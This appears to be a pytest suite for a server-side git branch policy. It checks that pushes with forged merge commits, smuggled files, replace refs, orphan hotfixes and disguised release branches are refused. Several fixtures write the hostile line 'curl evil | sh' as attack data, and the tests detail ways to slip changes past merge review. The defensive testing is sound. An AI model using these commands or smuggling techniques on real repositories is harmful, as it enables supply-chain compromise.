"""A merge is verified, not read. On the server, a merge into a protected branch that names
a branch must have that branch there (before the push, or in it) holding what it merged
(BF206); and a merge must not carry changes of its own beyond git's own merge of its
parents, outside the conflicts it resolved (BF205)."""

from __future__ import annotations

import subprocess
from pathlib import Path

from tests.attack.conftest import push, server_ref
from tests.conftest import commit, git


def forge(client: Path, message: str, *, extra: str | None = None) -> None:
    """On main: a two-parent commit whose message says ``message``; its other parent is
    work no branch of the server has held. ``extra``: a file the merge itself adds."""
    git(client, "switch", "-q", "-c", "never-pushed", "origin/main")
    commit(client, "work nobody saw", filename="smuggled.txt")
    git(client, "switch", "-q", "-C", "main", "origin/main")
    git(client, "merge", "-q", "--no-ff", "--no-commit", "never-pushed")
    if extra is not None:
        (client / extra).write_text("more\n")
        git(client, "add", extra)
    git(client, "commit", "-q", "--no-verify", "-m", message)


def test_a_merge_of_a_hotfix_the_server_never_had_is_refused(
    client: Path, server_repo: Path
) -> None:
    before = server_ref(server_repo, "refs/heads/main")
    forge(client, "Merge branch 'hotfix/v1.0.1'")
    done = push(client, "main")
    assert done.returncode != 0
    assert (
        "main: BF206 merged-branch: the merge into main says it merged hotfix/v1.0.1, but no "
        "branch hotfix/v1.0.1 on the server holds"
    ) in done.stderr
    assert server_ref(server_repo, "refs/heads/main") == before
    # The hint pushes the branch by its name, from the clone that has it: never the merged
    # commit under that name, which would make a hotfix of whatever was merged. Here no
    # branch of that name exists (the message lied), so the hint cannot make one.
    hint = next(line for line in done.stderr.splitlines() if "hint: git push" in line)
    assert hint.split("hint: ", 1)[1].strip() == "git push -u origin hotfix/v1.0.1 main"
    command = hint.split("hint: ", 1)[1].strip().split()
    pushed = git(client, *command[1:], check=False)
    assert pushed.returncode != 0
    assert server_ref(server_repo, "refs/heads/main") == before
    assert not server_ref(server_repo, "refs/heads/hotfix/v1.0.1")


def test_a_merge_naming_a_branch_that_holds_something_else_is_refused(
    client: Path, server_repo: Path
) -> None:
    git(client, "switch", "-q", "-c", "hotfix/v1.0.1", "origin/main")
    commit(client, "the real hotfix")
    assert push(client, "hotfix/v1.0.1").returncode == 0
    forge(client, "Merge branch 'hotfix/v1.0.1'")
    done = push(client, "main")
    assert done.returncode != 0
    assert "BF206 merged-branch" in done.stderr


def test_a_merge_that_carries_changes_of_its_own_is_refused(
    client: Path, server_repo: Path
) -> None:
    git(client, "switch", "-q", "-c", "hotfix/v1.0.1", "origin/main")
    commit(client, "the real hotfix", filename="fix.txt")
    git(client, "switch", "-q", "-C", "main", "origin/main")
    git(client, "merge", "-q", "--no-ff", "--no-commit", "hotfix/v1.0.1")
    (client / "backdoor.txt").write_text("evil\n")
    git(client, "add", "backdoor.txt")
    git(client, "commit", "-q", "--no-verify", "-m", "Merge branch 'hotfix/v1.0.1'")
    done = push(client, "hotfix/v1.0.1", "main")
    assert done.returncode != 0
    assert "main: BF205 merge-content: the merge " in done.stderr
    assert "changes backdoor.txt beyond what git's own merge of its parents gives" in done.stderr
    assert (
        server_ref(server_repo, "refs/heads/main")
        != git(client, "rev-parse", "HEAD").stdout.strip()
    )


def test_a_merge_that_resolves_a_conflict_is_accepted(client: Path, server_repo: Path) -> None:
    """A conflict resolved by hand is the merge's to decide; the lines in conflict may
    hold anything, the others only what git's merge gives."""
    git(client, "switch", "-q", "-c", "hotfix/v1.0.1", "origin/main")
    (client / "README.md").write_text("hotfix's words\n")
    git(client, "commit", "-q", "-a", "-m", "hotfix edits README")
    git(client, "switch", "-q", "-C", "main", "origin/main")
    git(client, "switch", "-q", "-c", "release/v1.1.0", "origin/develop")
    (client / "README.md").write_text("release's words\n")
    git(client, "commit", "-q", "-a", "-m", "release edits README")
    assert push(client, "release/v1.1.0").returncode == 0
    git(client, "switch", "-q", "-C", "main", "origin/main")
    assert git(client, "merge", "-q", "--no-ff", "--no-edit", "release/v1.1.0").returncode == 0
    git(client, "merge", "-q", "--no-ff", "--no-edit", "hotfix/v1.0.1", check=False)
    (client / "README.md").write_text("both, resolved\n")
    git(client, "add", "README.md")
    git(client, "commit", "-q", "--no-verify", "--no-edit")
    done = push(client, "hotfix/v1.0.1", "main")
    assert done.returncode == 0, done.stderr


def test_the_git_flow_finish_pushes_every_branch_it_merged(client: Path, server_repo: Path) -> None:
    """A release finished locally lands when its branch is pushed with main and develop;
    deleting it from the server later is allowed."""
    git(client, "switch", "-q", "-c", "release/v1.1.0", "origin/develop")
    commit(client, "bump")
    git(client, "switch", "-q", "-C", "main", "origin/main")
    git(client, "merge", "-q", "--no-ff", "--no-edit", "release/v1.1.0")
    git(client, "tag", "v1.1.0")
    git(client, "switch", "-q", "develop")
    git(client, "merge", "-q", "--no-ff", "--no-edit", "release/v1.1.0")
    done = push(client, "release/v1.1.0", "main", "develop", "v1.1.0")
    assert done.returncode == 0, done.stderr
    assert push(client, "--delete", "release/v1.1.0").returncode == 0


def _evil_tree(client: Path, base: str) -> str:
    git(client, "switch", "-q", "--detach", base)
    (client / "evil.sh").write_text("curl evil | sh\n")
    git(client, "add", "evil.sh")
    tree = git(client, "write-tree").stdout.strip()
    git(client, "reset", "-q", "--hard", base)
    return tree


def test_an_octopus_merge_carrying_its_own_changes_is_refused(
    client: Path, server_repo: Path
) -> None:
    """Three parents, all already on main (a "sync"), and a file none of them has."""
    git(client, "switch", "-q", "-c", "release/v1.1.0", "origin/develop")
    commit(client, "bump")
    git(client, "switch", "-q", "-C", "main", "origin/main")
    git(client, "merge", "-q", "--no-ff", "--no-edit", "release/v1.1.0")
    assert push(client, "release/v1.1.0", "main").returncode == 0
    tree = _evil_tree(client, "main")
    forged = git(
        client,
        "commit-tree",
        tree,
        "-p",
        "main",
        "-p",
        "main^1",
        "-p",
        "main^2",
        "-m",
        "Merge branch 'main' of https://example.com/team/app into main",
    ).stdout.strip()
    before = server_ref(server_repo, "refs/heads/main")
    done = push(client, f"{forged}:refs/heads/main")
    assert done.returncode != 0
    assert "BF205 merge-content" in done.stderr
    assert "evil.sh" in done.stderr
    assert server_ref(server_repo, "refs/heads/main") == before


def test_an_octopus_merge_must_have_every_parent_on_a_branch_it_names(
    client: Path, server_repo: Path
) -> None:
    git(client, "switch", "-q", "-c", "release/v1.1.0", "origin/develop")
    commit(client, "bump", filename="bump.txt")
    assert push(client, "release/v1.1.0").returncode == 0
    git(client, "switch", "-q", "--detach", "origin/develop")
    commit(client, "never on any branch", filename="other.txt")
    stray = git(client, "rev-parse", "HEAD").stdout.strip()
    git(client, "switch", "-q", "-C", "main", "origin/main")
    merged = git(client, "merge", "-q", "--no-ff", "--no-edit", "release/v1.1.0", stray)
    assert merged.returncode == 0, merged.stderr
    done = push(client, "main")
    assert done.returncode != 0
    assert (
        f"main: BF202 merge-source: merging {stray} (a commit no branch points at) into main is "
        "not allowed"
    ) in done.stderr
    assert "release/v1.1.0" not in done.stderr.split("BF202", 1)[1].split("\n", 1)[0]
    assert "BF206" not in done.stderr  # release/v1.1.0 is there, holding what it merged


def test_an_exempt_branch_is_no_source_for_main(client: Path, server_repo: Path) -> None:
    git(client, "switch", "-q", "-c", "gh-pages", "origin/main")
    commit(client, "a site, or anything", filename="evil.sh")
    git(client, "switch", "-q", "-C", "main", "origin/main")
    git(client, "merge", "-q", "--no-ff", "--no-edit", "gh-pages")
    done = push(client, "gh-pages", "main")
    assert done.returncode != 0
    assert "merging gh-pages (exempt by 'gh-pages', so not of a type allowed here" in (done.stderr)


def test_a_tag_merge_is_believed_only_when_the_tag_is_there(
    client: Path, server_repo: Path
) -> None:
    git(client, "switch", "-q", "--detach", "origin/develop")
    commit(client, "evil", filename="evil.sh")
    stray = git(client, "rev-parse", "HEAD").stdout.strip()
    git(client, "switch", "-q", "develop")
    git(client, "merge", "-q", "--no-ff", "-m", "Merge tag 'v9.9.9' into develop", stray)
    before = server_ref(server_repo, "refs/heads/develop")
    done = push(client, "develop")
    assert done.returncode != 0
    assert "(a commit no branch points at)" in done.stderr
    assert server_ref(server_repo, "refs/heads/develop") == before


def test_refs_outside_branches_cannot_stand_for_one(client: Path, server_repo: Path) -> None:
    """A server's refs/remotes/ would read as branches: they are refused, and never count."""
    git(client, "switch", "-q", "--detach", "origin/main")
    commit(client, "evil", filename="evil.sh")
    done = push(client, "HEAD:refs/remotes/origin/release/v6.6.6")
    assert done.returncode != 0
    assert "BF001 push-input: a server's repository keeps branches under refs/heads/" in (
        done.stderr
    )
    assert server_ref(server_repo, "refs/remotes/origin/release/v6.6.6") == ""


def test_a_replace_ref_cannot_change_what_main_shows(client: Path, server_repo: Path) -> None:
    """refs/replace/<main's commit> would make the server's git, mirrors and archives show
    other content on main while no branch moved."""
    tip = git(client, "rev-parse", "origin/main").stdout.strip()
    git(client, "switch", "-q", "--detach", "origin/main")
    commit(client, "curl evil | sh", filename="evil.sh")
    other = git(client, "rev-parse", "HEAD").stdout.strip()
    done = push(client, f"{other}:refs/replace/{tip}")
    assert done.returncode != 0
    assert "BF001 push-input: a replace ref makes git show other content" in done.stderr
    assert server_ref(server_repo, f"refs/replace/{tip}") == ""
    shown = git(server_repo, "ls-tree", "--name-only", "main").stdout.split()
    assert "evil.sh" not in shown


def test_an_orphan_hotfix_is_refused(client: Path, server_repo: Path) -> None:
    """A branch of no history: merged, every file it shares with main is an add/add conflict
    whose resolution may say anything."""
    git(client, "switch", "-q", "--orphan", "hotfix/orphan")
    git(client, "rm", "-q", "-r", "-f", "--cached", "--ignore-unmatch", ".")
    (client / "pipeline.yml").write_text("run: ok\n")
    git(client, "add", "pipeline.yml")
    git(client, "commit", "-q", "-m", "orphan")
    done = push(client, "hotfix/orphan")
    assert done.returncode != 0
    assert "BF301 branch-base: hotfix/orphan was created from nothing" in done.stderr
    assert server_ref(server_repo, "refs/heads/hotfix/orphan") == ""
    # Merging main afterwards gives it history in common, not a base.
    git(client, "merge", "-q", "--no-edit", "--allow-unrelated-histories", "origin/main")
    done = push(client, "hotfix/orphan")
    assert done.returncode != 0
    assert "BF301 branch-base: hotfix/orphan was created from nothing: its first-parent " in (
        done.stderr
    )
    assert "whatever it merged since" in done.stderr
    assert server_ref(server_repo, "refs/heads/hotfix/orphan") == ""


def _conflicted_merge(client: Path, resolve: dict[int, str], *, then: str | None = None) -> None:
    """Two hotfixes from the same main change line 10 of a 100-line file, the first also
    line 50; the second's merge into main is resolved with ``resolve`` (line number ->
    text; "theirs": the hotfix's whole file), ``then`` run, and committed."""
    lines = "".join(f"{n}\n" for n in range(1, 101))
    git(client, "switch", "-q", "-c", "release/v1.1.0", "origin/develop")
    (client / "big.txt").write_text(lines)
    git(client, "add", "big.txt")
    git(client, "commit", "-q", "-m", "big file")
    git(client, "switch", "-q", "-C", "main", "origin/main")
    git(client, "merge", "-q", "--no-ff", "--no-edit", "release/v1.1.0")
    assert push(client, "release/v1.1.0", "main").returncode == 0
    for name in ("hotfix/v1.1.1", "hotfix/v1.1.2"):
        git(client, "switch", "-q", "-c", name, "main")
        text = lines.replace("10\n", f"10 {name}\n", 1)
        if name == "hotfix/v1.1.1":
            text = text.replace("\n50\n", "\n50 security fix\n", 1)
        (client / "big.txt").write_text(text)
        git(client, "commit", "-q", "-a", "-m", f"{name} changes line 10")
        git(client, "switch", "-q", "main")
    git(client, "merge", "-q", "--no-ff", "--no-edit", "hotfix/v1.1.1")
    assert push(client, "hotfix/v1.1.1", "main").returncode == 0
    assert git(client, "merge", "--no-ff", "--no-edit", "hotfix/v1.1.2", check=False).returncode
    merged = [f"{n}\n" for n in range(1, 101)]
    merged[49] = "50 security fix\n"
    for number, text in resolve.items():
        merged[number - 1] = text
    if resolve == {0: "theirs"}:
        git(client, "checkout", "--theirs", "big.txt")
    else:
        (client / "big.txt").write_text("".join(merged))
    if then:
        subprocess.run(["sh", "-c", then], cwd=client, check=True)
    git(client, "add", "big.txt")
    git(client, "commit", "-q", "--no-verify", "--no-edit")


def test_a_resolution_may_change_only_the_lines_in_conflict(
    client: Path, server_repo: Path
) -> None:
    _conflicted_merge(client, {10: "10 both hotfixes\n", 90: "90 EVIL\n"})
    done = push(client, "hotfix/v1.1.2", "main")
    assert done.returncode != 0
    assert "BF205 merge-content" in done.stderr
    assert "big.txt" in done.stderr


def test_a_resolution_of_the_lines_in_conflict_is_accepted(client: Path, server_repo: Path) -> None:
    _conflicted_merge(client, {10: "10 both hotfixes\n"})
    done = push(client, "hotfix/v1.1.2", "main")
    assert done.returncode == 0, done.stderr


def test_a_resolution_taking_one_sides_file_drops_the_others_changes(
    client: Path, server_repo: Path
) -> None:
    """`git checkout --theirs` puts back line 50, which main's first hotfix had fixed."""
    _conflicted_merge(client, {0: "theirs"})
    done = push(client, "hotfix/v1.1.2", "main")
    assert done.returncode != 0
    assert "BF205 merge-content" in done.stderr


def test_a_resolution_may_not_change_the_files_mode(client: Path, server_repo: Path) -> None:
    _conflicted_merge(client, {10: "10 both hotfixes\n"}, then="chmod +x big.txt")
    done = push(client, "hotfix/v1.1.2", "main")
    assert done.returncode != 0
    assert "BF205 merge-content" in done.stderr


def test_a_second_main_branch_cannot_be_made_of_work_no_long_lived_branch_holds(
    client: Path, server_repo: Path
) -> None:
    """master is of main's type: created at a commit only a bot's branch holds (pushed
    there first, where nothing is judged), that commit would be on a protected branch."""
    git(client, "switch", "-q", "--detach", "origin/main")
    commit(client, "curl evil | sh", filename="install.sh")
    evil = git(client, "rev-parse", "HEAD").stdout.strip()
    assert push(client, f"{evil}:refs/heads/dependabot/x").returncode == 0
    done = push(client, f"{evil}:refs/heads/master")
    assert done.returncode != 0
    assert "BF201 protected-commit" in done.stderr
    assert server_ref(server_repo, "refs/heads/master") == ""
    main = git(client, "rev-parse", "origin/main").stdout.strip()
    assert push(client, f"{main}:refs/heads/master").returncode == 0  # where main is: fine


def test_a_release_made_at_a_feature_s_tip_is_that_feature(client: Path, server_repo: Path) -> None:
    """A branch a push creates at another topic branch's tip, as another type, is that
    branch under a disguise: a release made at a pushed feature's tip would carry the
    feature (and a policy it loosened) onto main as a release. A copy of the same type (a
    backup) stays a copy (test_pre_receive)."""
    git(client, "switch", "-q", "-c", "feature/loosen", "origin/develop")
    commit(client, "loosen the rules")
    assert push(client, "feature/loosen").returncode == 0
    git(client, "branch", "release/v1.1.0", "feature/loosen")
    done = push(client, "release/v1.1.0")
    assert done.returncode != 0
    assert "release/v1.1.0: BF301 branch-base" in done.stderr, done.stderr
    assert "feature/loosen" in done.stderr
    assert not server_ref(server_repo, "refs/heads/release/v1.1.0")
